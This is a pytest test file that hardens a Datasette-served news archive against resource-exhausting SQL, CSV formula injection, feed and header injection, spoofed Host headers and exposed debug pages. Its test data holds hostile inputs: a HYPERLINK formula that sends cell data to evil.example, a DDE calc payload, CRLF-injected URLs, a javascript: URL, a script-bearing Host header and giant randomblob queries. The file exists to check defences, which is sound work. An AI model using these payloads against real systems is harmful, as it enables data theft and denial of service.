"""Public-archive hardening, part by part (issue 14): SQLite limits and refused functions,
safe CSV, XML-safe feeds, impossible dates and bad URLs at the pipeline, bidirectional
controls, crawl ports, and the served archive's closed pages, Host handling and 400s
through Datasette's real app on the crawled mirror archive.

The same cases replayed against a served archive, with a concurrent reader measured, are
tests/test_reliability_dos.py.
"""

from __future__ import annotations

import csv
import io
import sqlite3

import icalendar
import lxml.etree
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from archive import hardening
from archive.feeds import ATOM_COLUMNS, atom_feed, ics_calendar, missing_columns
from archive.publish import datasette_app
from archive.safe_csv import CsvRewriter, neutralise_cell
from partnews.text import _UNSAFE_RE, clean_text, display_title
from partnews.urls import canonicalize_url, refusal_reason, web_url_problem
from pipelines.normalize import BODY_LIMIT, normalize_item
from pipelines.validate import RejectItem, ValidatePipeline, problems

HOSTS = ("www.maregionsud.fr", "maregionsud.fr")


def limited() -> sqlite3.Connection:
    conn = sqlite3.connect(":memory:")
    hardening.limit_connection(conn)
    return conn


# SQLite limits ---------------------------------------------------------------------------


def test_a_huge_value_fails_at_once_instead_of_being_built():
    conn = limited()
    with pytest.raises(sqlite3.DataError, match="too big"):
        conn.execute("select length(randomblob(900000000))").fetchone()
    with pytest.raises(sqlite3.DataError, match="too big"):
        conn.execute("select zeroblob(?)", [hardening.MAX_VALUE_BYTES + 1]).fetchone()
    # below the limit, values are built as usual
    size = hardening.MAX_VALUE_BYTES // 2
    assert conn.execute("select length(zeroblob(?))", [size]).fetchone() == (size,)


def test_printf_and_format_are_refused_before_they_run():
    conn = limited()
    for sql in ("select printf('%.*c', 900000000, 'x')", "select format('%d', 1)"):
        with pytest.raises(sqlite3.DatabaseError, match="not authorized"):
            conn.execute(sql)


def test_a_long_like_pattern_is_refused():
    conn = limited()
    long_pattern = "%" + "a" * hardening.MAX_LIKE_PATTERN_BYTES
    with pytest.raises(sqlite3.OperationalError, match="too complex"):
        conn.execute("select 'abc' like ?", [long_pattern]).fetchone()
    assert conn.execute("select 'abc' like '%b%'").fetchone() == (1,)


@pytest.mark.parametrize(
    ("haystack", "needle"),
    [
        ("Côte d'Azur", "Azur"),
        ("Côte d'Azur", "ô"),
        ("abc", "x"),
        ("abc", ""),
        ("", "a"),
        (None, "a"),
        ("a", None),
        (b"\x00\x01\x02", b"\x01\x02"),
        (12345, 34),
        ("aaaa", "aa"),
    ],
)
def test_instr_answers_what_sqlites_own_answers(haystack, needle):
    plain = sqlite3.connect(":memory:")
    expected = plain.execute("select instr(?, ?)", [haystack, needle]).fetchone()
    assert limited().execute("select instr(?, ?)", [haystack, needle]).fetchone() == expected


def test_the_database_list_shows_no_path(tmp_path):
    path = tmp_path / "partnews.db"
    sqlite3.connect(path).close()
    plain = sqlite3.connect(path)
    assert plain.execute("select file from pragma_database_list").fetchone()[0]  # a path
    conn = sqlite3.connect(path)
    hardening.limit_connection(conn)
    rows = conn.execute("select name, file from pragma_database_list").fetchall()
    assert rows == [("main", None)]


def test_snippet_and_highlight_are_found_in_custom_sql(tmp_path):
    path = tmp_path / "partnews.db"
    conn = sqlite3.connect(path)
    conn.execute("create virtual table items_fts using fts5(title, body)")
    conn.execute("create table items (id text, body text)")
    conn.close()
    called = hardening.functions_called(
        str(path),
        "select snippet(items_fts, -1, '', '', '', 8), upper(:q) from items_fts "
        "where items_fts match :q",
    )
    assert {"snippet", "upper"} <= called
    assert "highlight" in hardening.functions_called(
        str(path), "select \"highlight\"(items_fts, 1, '[', ']') from items_fts"
    )
    assert hardening.functions_called(str(path), "select nonsense from nowhere") is None


def test_custom_sql_is_told_apart_from_canned_queries():
    assert hardening.custom_sql_of("/partnews.json", b"sql=select+1", "partnews") == (
        "",
        "select 1",
    )
    table, sql = hardening.custom_sql_of(
        "/partnews/items.json", b"_where=a%3D1&_where=b%3D2", "partnews"
    )
    assert table == "items" and "(a=1) and (b=2)" in sql
    assert hardening.custom_sql_of("/partnews/search.json", b"q=x", "partnews") is None
    assert hardening.custom_sql_of("/other.json", b"sql=select+1", "partnews") is None


# Safe CSV --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example/steal?d="&A2,"Click me")', "'="),
        ("+cmd", "'+"),
        ("-2+3+cmd|' /C calc'!A0", "'-"),
        ("@SUM(1+1)", "'@"),
        ("\t=1", "'\t"),
        ("\r=1", "'\r"),
        ("\uff1d1+1", "'\uff1d"),
    ],
)
def test_formula_cells_get_a_leading_quote(cell, expected):
    assert neutralise_cell(cell).startswith(expected)
    assert neutralise_cell(cell)[1:] == cell


@pytest.mark.parametrize("cell", ["-3", "+1.5e3", "-0.25", "Marseille", "", "2024-03-12", None, 7])
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert neutralise_cell(cell) == cell


cells = st.one_of(
    st.text(alphabet=st.sampled_from('=+-@\t\r\n",ab é1'), max_size=12),
    st.from_regex(r"-?[0-9]{1,4}", fullmatch=True),
)


@settings(max_examples=150, deadline=None)
@given(
    rows=st.lists(st.lists(cells, min_size=3, max_size=3), min_size=1, max_size=8),
    chunk=st.integers(min_value=1, max_value=40),
)
def test_the_csv_stream_is_rewritten_cell_by_cell_however_it_is_cut(rows, chunk):
    source = io.StringIO(newline="")
    csv.writer(source, lineterminator="\r\n").writerows(rows)
    data = source.getvalue().encode("utf-8")
    rewriter = CsvRewriter()
    out = b"".join(rewriter.feed(data[i : i + chunk]) for i in range(0, len(data), chunk))
    out += rewriter.close()
    parsed = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert parsed == [[neutralise_cell(c) for c in row] for row in rows]


# Feeds -----------------------------------------------------------------------------------


def test_an_atom_feed_stays_valid_xml_whatever_a_row_holds():
    rows = [
        {
            "atom_id": "a",
            "atom_title": "Budget r\ufffegional\x01 \u202einvoice",
            "atom_updated": "2024-03-12",
            "atom_link": "https://www.maregionsud.fr/a",
            "atom_content": "text \x0b with \ud800 a lone surrogate",
            "atom_author_name": "\x1bname",
        },
        {"atom_id": "b", "atom_title": "bad date", "atom_updated": "2024-02-30"},
        {
            "atom_id": "c",
            "atom_title": "CRLF link",
            "atom_updated": "2024-03-13",
            "atom_link": "https://www.maregionsud.fr/c\r\nX: 1",
        },
    ]
    document = lxml.etree.fromstring(atom_feed(rows, title="t\ufffe", feed_url="http://x/"))
    ns = {"a": "http://www.w3.org/2005/Atom"}
    ids = document.xpath("//a:entry/a:id/text()", namespaces=ns)
    assert sorted(ids) == ["a", "c"]  # the entry whose date is no date is left out
    titles = document.xpath("//a:entry/a:title/text()", namespaces=ns)
    assert "Budget rgional invoice" in titles
    assert document.xpath("//a:entry[a:id='c']/a:link", namespaces=ns) == []


def test_a_calendar_stays_valid_whatever_a_row_holds():
    rows = [
        {"event_uid": "good", "event_name": "Forum\ufffe", "event_dtstart": "2030-05-04"},
        {"event_uid": "feb30", "event_name": "x", "event_dtstart": "2030-02-30"},
        {"event_uid": "hour25", "event_name": "x", "event_dtstart": "2030-01-01T25:00"},
        {
            "event_uid": "crlf",
            "event_name": "Salon",
            "event_dtstart": "2030-05-05T10:00:00+02:00",
            "event_url": "https://www.maregionsud.fr/x\r\nX-INJECTED:1",
            "event_location": "Salle\x01 1",
        },
    ]
    body = ics_calendar(rows, name="n")
    assert b"X-INJECTED" not in body
    calendar = icalendar.Calendar.from_ical(body)
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    assert set(events) == {"good", "crlf"}
    assert "url" not in events["crlf"]
    assert str(events["good"]["summary"]) == "Forum"


def test_feeds_name_the_columns_a_query_lacks():
    assert missing_columns(["atom_id", "title"], ATOM_COLUMNS) == ["atom_title", "atom_updated"]
    assert missing_columns(list(ATOM_COLUMNS), ATOM_COLUMNS) == []


# The pipeline ----------------------------------------------------------------------------


def item(**fields) -> dict:
    return {
        "source": "region_sud",
        "kind": "news",
        "url": "https://www.maregionsud.fr/actualites/x",
        "title": "Un titre",
        **fields,
    }


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"kind": "event", "start": "2030-02-30"}, "event start is not a real date"),
        ({"kind": "event", "start": "2030-01-01T25:00"}, "event start is not a real date"),
        (
            {"kind": "event", "start": "2030-01-01", "end": "2030-13-01"},
            "event end is not a real date",
        ),
        ({"url": "https://www.maregionsud.fr/x\r\nX-Injected: 1"}, "url is not an http(s) URL"),
        ({"url": "https://www.maregionsud.fr/a b"}, "url is not an http(s) URL"),
        ({"url": "https://www.maregionsud.fr:99999/"}, "url is not an http(s) URL"),
        ({"url": "javascript://www.maregionsud.fr/%0Aalert(1)"}, "url is not an http(s) URL"),
    ],
)
def test_the_validate_pipeline_rejects_with_the_reason(fields, reason):
    with pytest.raises(RejectItem, match=reason.replace("(", r"\(").replace(")", r"\)")):
        ValidatePipeline().process_item(item(**fields))


@pytest.mark.parametrize(
    "start", ["2030-02-28", "2030-01-01T10:00:00+01:00", "2019-06-05/2019-06-07", "12 mai 2030"]
)
def test_real_dates_and_datelines_pass(start):
    assert problems(item(kind="event", start=start)) == []


def test_texts_are_capped_and_cleaned_at_the_pipeline():
    out = normalize_item(
        item(
            title="invoice\u202egpj.exe\ufffe",
            body="lorem ipsum " * 10_000,
            kind="event",
            start="2030-02-30",
            end="2030-01-01T25:00",
            registration_url="https://tickets.example/a\r\nb",
            image="https://img.example/x.jpg",
        ),
        None,
    )
    assert out["title"] == "invoicegpj.exe"
    assert len(out["body"]) == BODY_LIMIT
    assert out["start"] is None and out["end"] is None  # never the impossible string
    assert out["registration_url"] is None
    assert out["image"] == "https://img.example/x.jpg"


@given(st.text(max_size=40))
def test_cleaned_text_never_holds_an_unsafe_character(text):
    for cleaned in (clean_text(text), display_title(text)):
        assert cleaned is None or not _UNSAFE_RE.search(cleaned)


def test_bidirectional_controls_leave_urls_raw_or_encoded():
    for url in (
        "https://www.maregionsud.fr/invoice\u202egpj.exe",
        "https://www.maregionsud.fr/invoice%E2%80%AEgpj.exe",
        "https://www.maregionsud.fr/invoice%e2%81%a6gpj.exe",
    ):
        assert canonicalize_url(url) == "https://www.maregionsud.fr/invoicegpj.exe"


def test_urls_are_parsed_not_prefix_checked():
    assert web_url_problem("https://www.maregionsud.fr/a?b=c") is None
    assert "control" in web_url_problem("https://www.maregionsud.fr/\x00")
    assert web_url_problem("http:///nohost") == "no host"


# The crawler's ports ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://www.maregionsud.fr:22/",
        "http://maregionsud.fr:6379/",
        "https://www.maregionsud.fr:80/",  # http's port under https
        "https://www.maregionsud.fr:8443/",
    ],
)
def test_other_ports_of_a_sources_host_are_refused(url):
    assert refusal_reason(url, HOSTS) == "port"


def test_a_port_the_registry_lists_is_allowed():
    hosts = (*HOSTS, "www.maregionsud.fr:8443")
    assert refusal_reason("https://www.maregionsud.fr:8443/a", hosts) is None
    assert refusal_reason("https://maregionsud.fr:8443/a", hosts) == "port"
    assert refusal_reason("https://www.maregionsud.fr:443/a", hosts) is None


# Through Datasette's app -----------------------------------------------------------------


@pytest.fixture
def ds(crawled_archive, monkeypatch):
    monkeypatch.delenv(hardening.BASE_URL_ENV, raising=False)
    return datasette_app(crawled_archive)


@pytest.mark.parametrize(
    "path",
    [
        "/-/messages",
        "/-/allow-debug",
        "/-/patterns",
        "/-/permissions",
        "/-/versions.json",
        "/-/threads.json",
        "/-/plugins.json",
        "/-/databases.json",
        "/-/actor.json",
    ],
)
async def test_debug_and_introspection_pages_are_closed(ds, path):
    response = await ds.client.get(path)
    assert response.status_code == 404


async def test_no_page_shows_the_archives_path(ds, crawled_archive):
    directory = str(crawled_archive.resolve().parent)
    for path in (
        "/",
        "/partnews",
        "/partnews.json",
        "/-/metadata.json",
        "/-/settings.json",
        "/partnews.json?sql=select+*+from+pragma_database_list",
        "/partnews/items.json?_where=nonsense(",
    ):
        response = await ds.client.get(path)
        assert directory not in response.text, path


async def test_links_follow_the_base_url_not_the_host_header(crawled_archive, monkeypatch):
    monkeypatch.setenv(hardening.BASE_URL_ENV, "https://archive.example.org")
    ds = datasette_app(crawled_archive)
    evil = {"host": "evil.example"}
    for path in ("/partnews/items?_facet=source", "/partnews/feed.atom", "/partnews/items.json"):
        response = await ds.client.get(path, headers=evil)
        assert response.status_code == 200, path
        assert "evil.example" not in response.text, path
        assert "evil.example" not in str(response.headers), path
    feed = await ds.client.get("/partnews/feed.atom", headers=evil)
    assert "<id>https://archive.example.org/partnews/feed.atom</id>" in feed.text


async def test_without_a_base_url_the_host_is_checked_and_varies(ds):
    response = await ds.client.get("/partnews/items?_facet=source")
    assert "host" in response.headers["vary"].lower()
    bad = await ds.client.get("/partnews/items", headers={"host": 'evil.example"><script>'})
    assert bad.status_code == 400


async def test_feeds_of_queries_without_feed_columns_answer_400(ds):
    for path in ("/partnews/items.atom", "/partnews/sources.ics", "/partnews/search.atom?q=x"):
        response = await ds.client.get(path)
        assert response.status_code == 400, path
        assert "lacks the columns" in response.text


async def test_datasettes_own_csv_cells_are_inert(ds):
    sql = "select '=1+1' as a, '-3' as b, '@x' as c, 'plain' as d"
    response = await ds.client.get("/partnews.csv", params={"sql": sql})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[1] == ["'=1+1", "-3", "'@x", "plain"]
    streamed = await ds.client.get("/partnews/items.csv", params={"_stream": "on"})
    ordinary = list(csv.DictReader(io.StringIO(streamed.text)))
    assert ordinary and all(not neutralise_cell(v).startswith("'") for v in ordinary[0].values())


async def test_refused_work_answers_400_saying_why(ds):
    where = await ds.client.get(
        "/partnews/items.json", params={"_where": "length(randomblob(900000000)) > 0"}
    )
    assert where.status_code == 400 and "too big" in where.text
    snippet = await ds.client.get(
        "/partnews.json",
        params={"sql": "select snippet(items_fts, -1, '', '', '', 9) from items_fts"},
    )
    assert snippet.status_code == 400 and "snippet" in snippet.text
    printf = await ds.client.get("/partnews.json", params={"sql": "select printf('%d', 1)"})
    assert printf.status_code == 400 and "not authorized" in printf.text


@pytest.mark.parametrize(
    "raw", [b"/-/versions.json", b"/-/%76ersions.json", b"/-/databases/", b"/-/plugins"]
)
def test_closed_pages_are_recognised_however_spelled(raw):
    from urllib.parse import unquote

    scope = {"path": unquote(raw.decode()), "raw_path": raw}
    assert hardening._is_closed(scope)
    assert not hardening._is_closed({"path": "/-/metadata.json", "raw_path": b"/-/metadata.json"})


def test_serve_builds_links_from_a_base_url():
    from partnews.commands.serve import default_base_url, serve

    assert default_base_url("127.0.0.1", 8001, None) == "http://127.0.0.1:8001"
    assert default_base_url("0.0.0.0", 8001, None) is None  # the Host is checked instead
    assert default_base_url("0.0.0.0", 80, "https://a.example/") == "https://a.example"
    assert serve("unused.db", "127.0.0.1", 8001, "https://a.example/path") == 2
    assert hardening.base_url_problem("ftp://a.example") is not None
    assert hardening.base_url_problem("https://a.example:8443") is None


def test_canned_searches_name_each_word_once_and_at_most_the_search_pages_cap():
    from archive import search
    from archive.datasette_plugin import fts_query

    assert fts_query(" ".join(["lorem"] * 20)) == '"lorem"'
    assert fts_query("Lorem lorem LOREM ipsum") == '"Lorem" "ipsum"'
    many = " ".join(f"word{i}" for i in range(30))
    assert fts_query(many).count('"') == 2 * search.MAX_TERMS


def test_canned_search_snippets_read_a_bounded_part_of_the_text():
    from archive import search
    from archive.datasette_plugin import snippet_of

    early = "shore power agreement signed in Marseille " + "filler " * 10
    assert "**Marseille**" in snippet_of(None, None, early, "marseille")
    late = "filler " * (search.SNIPPET_TEXT_LIMIT // 7 + 10) + "Marseille"
    assert "**" not in snippet_of(None, None, late, "marseille"), "beyond the bound: not read"
    assert "**biotechnologies**" in snippet_of(
        None, "Les biotechnologies à Marseille", None, "biot", 1
    )
    title_only = snippet_of("Provence at the fair", "A summary", "A body", "provence")
    assert title_only == "**Provence** at the fair", "a title-only match shows the title"
